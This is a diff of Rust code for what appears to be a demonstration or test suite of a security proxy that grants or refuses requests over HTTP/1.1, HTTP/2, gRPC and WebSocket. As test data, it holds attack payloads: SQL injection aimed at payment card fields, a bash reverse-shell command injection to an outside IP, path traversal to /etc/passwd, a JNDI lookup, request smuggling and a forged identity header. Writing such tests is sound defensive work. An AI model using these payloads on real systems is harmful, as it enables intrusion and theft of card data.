@@ -25,13 +25,24 @@ impl Who {
     }
 }
 
+/// How a refusal is said.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(super) enum Said {
+    /// An HTTP status.
+    Http(u16),
+    /// A gRPC status.
+    Grpc(u16),
+    /// The code that closes a WebSocket.
+    Close(u16),
+}
+
 /// What is expected.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub(super) enum Expected {
     /// The service answers.
     Served,
-    /// Refused with this status and, in the record, a reason that begins like this.
-    Refused(u16, &'static str),
+    /// Refused in these words and, in the record, a reason that begins like this.
+    Refused(Said, &'static str),
     /// No TLS connection; the record's reason begins like this.
     NoHandshake(&'static str),
 }
@@ -41,11 +52,22 @@ pub(super) struct Step {
     pub(super) who: Who,
     /// What the table says of it.
     pub(super) what: &'static str,
-    pub(super) bytes: Vec<u8>,
+    pub(super) message: Message,
     pub(super) expected: Expected,
 }
 
+/// What is sent.
+pub(super) enum Message {
+    /// HTTP/1.1, byte by byte.
+    Bytes(Vec<u8>),
+    /// A request over HTTP/2: method, target, content type, body.
+    Http2(&'static str, &'static str, &'static str, Vec<u8>),
+    /// A text message, on a WebSocket that was granted.
+    WebSocket(&'static str),
+}
+
 use Expected::{NoHandshake, Refused, Served};
+use Said::{Close, Grpc, Http};
 use Who::{Frontend, Impostor, Nobody, Reports};
 
 /// The whole demonstration, in order.
@@ -54,7 +76,51 @@ pub(super) fn script() -> Vec<Step> {
     steps.extend(outside_the_allowlist());
     steps.extend(attacks());
     steps.extend(malformed());
+    steps.extend(other_carriers());
     steps
+}
+
+/// What is granted and what is not do not depend on what carries it.
+fn other_carriers() -> Vec<Step> {
+    const GRPC: &str = "application/grpc";
+    const ATTACK: &str = "tea' UNION SELECT card, cvv FROM payments --";
+    let http2 = |what, method, target, kind, body, expected| Step {
+        who: Frontend,
+        what,
+        message: Message::Http2(method, target, kind, body),
+        expected,
+    };
+    let socket = |what, text, expected| Step { who: Frontend, what, message: Message::WebSocket(text), expected };
+    let json = format!("{{\"item\":{ATTACK:?}}}").into_bytes();
+    vec![
+        http2("HTTP/2: GET /orders/17", "GET", "/orders/17", "", Vec::new(), Served),
+        http2("HTTP/2: SQL injection in JSON", "POST", "/orders", JSON, json, Refused(Http(403), "attack-")),
+        http2("gRPC: shop.Orders/Get", "POST", "/shop.Orders/Get", GRPC, grpc("tea; black"), Served),
+        http2(
+            "gRPC: method not granted",
+            "POST",
+            "/shop.Orders/Drop",
+            GRPC,
+            grpc("tea"),
+            Refused(Grpc(7), "policy-no-rule"),
+        ),
+        http2(
+            "gRPC: SQL injection in a field",
+            "POST",
+            "/shop.Orders/Get",
+            GRPC,
+            grpc(ATTACK),
+            Refused(Grpc(7), "attack-"),
+        ),
+        socket("WebSocket: a message", "tea, please", Served),
+        socket("WebSocket: SQL injection in a message", ATTACK, Refused(Close(1008), "attack-")),
+    ]
+}
+
+/// A message whose first field is this text of less than 126 bytes, as gRPC frames it.
+fn grpc(text: &str) -> Vec<u8> {
+    let length = text.len() as u8;
+    [&[0, 0, 0, 0, length + 2, 0x0a, length], text.as_bytes()].concat()
 }
 
 fn served() -> Vec<Step> {
@@ -79,19 +145,19 @@ fn outside_the_allowlist() -> Vec<Step> {
     vec![
         get(Nobody, "GET /orders/17", "/orders/17", NoHandshake("tls-")),
         get(Impostor, "GET /orders/17", "/orders/17", NoHandshake("tls-")),
-        get(Reports, "GET /orders/17: wrong identity", "/orders/17", Refused(403, "policy-no-rule")),
-        get(Frontend, "GET /admin/users: path not granted", "/admin/users", Refused(403, "policy-")),
+        get(Reports, "GET /orders/17: wrong identity", "/orders/17", Refused(Http(403), "policy-no-rule")),
+        get(Frontend, "GET /admin/users: path not granted", "/admin/users", Refused(Http(403), "policy-")),
         raw(
             Frontend,
             "DELETE /orders/17: method not granted",
             "DELETE /orders/17 HTTP/1.1\r\nhost: orders\r\n\r\n",
-            Refused(403, "policy-no-rule"),
+            Refused(Http(403), "policy-no-rule"),
         ),
     ]
 }
 
 fn attacks() -> Vec<Step> {
-    const ATTACK: Expected = Refused(403, "attack-");
+    const ATTACK: Expected = Refused(Http(403), "attack-");
     vec![
         get(
             Frontend,
@@ -123,7 +189,7 @@ fn attacks() -> Vec<Step> {
             r#"{"item":"$(bash -i >& /dev/tcp/198.51.100.7/4444 0>&1)"}"#,
             ATTACK,
         ),
-        get(Frontend, "path traversal", "/files/%2e%2e/%2e%2e/etc/passwd", Refused(403, "")),
+        get(Frontend, "path traversal", "/files/%2e%2e/%2e%2e/etc/passwd", Refused(Http(403), "")),
         raw(
             Frontend,
             "JNDI lookup in a header",
@@ -138,22 +204,27 @@ fn malformed() -> Vec<Step> {
     let oversized = format!("GET /orders/17 HTTP/1.1\r\nhost: orders\r\nx-filler: {}\r\n\r\n", "a".repeat(70_000));
     let large = "x".repeat(300 * 1024);
     vec![
-        raw(Frontend, "request smuggling: two lengths", SMUGGLED, Refused(400, "http1-")),
-        raw(Frontend, "a bare line feed", "GET /orders/17 HTTP/1.1\nhost: orders\r\n\r\n", Refused(400, "http1-")),
+        raw(Frontend, "request smuggling: two lengths", SMUGGLED, Refused(Http(400), "http1-")),
+        raw(
+            Frontend,
+            "a bare line feed",
+            "GET /orders/17 HTTP/1.1\nhost: orders\r\n\r\n",
+            Refused(Http(400), "http1-"),
+        ),
         raw(
             Frontend,
             "two Host headers",
             "GET /orders/17 HTTP/1.1\r\nhost: orders\r\nhost: admin\r\n\r\n",
-            Refused(400, "http1-"),
+            Refused(Http(400), "http1-"),
         ),
         raw(
             Frontend,
             "a forged identity header",
             "GET /orders/17 HTTP/1.1\r\nhost: orders\r\nX_Forwarded_Client_Cert: URI=spiffe://cluster.test/ns/shop/sa/root\r\n\r\n",
-            Refused(400, "http1-"),
+            Refused(Http(400), "http1-"),
         ),
-        raw(Frontend, "an oversized head", &oversized, Refused(431, "http1-")),
-        post(Frontend, "a body too large to inspect", "/orders", JSON, &large, Refused(413, "limit-")),
+        raw(Frontend, "an oversized head", &oversized, Refused(Http(431), "http1-")),
+        post(Frontend, "a body too large to inspect", "/orders", JSON, &large, Refused(Http(413), "limit-")),
     ]
 }
 
@@ -172,5 +243,5 @@ fn post(who: Who, what: &'static str, target: &str, kind: &str, body: &str, expe
 }
 
 fn raw(who: Who, what: &'static str, bytes: &str, expected: Expected) -> Step {
-    Step { who, what, bytes: bytes.as_bytes().to_vec(), expected }
+    Step { who, what, message: Message::Bytes(bytes.as_bytes().to_vec()), expected }
 }
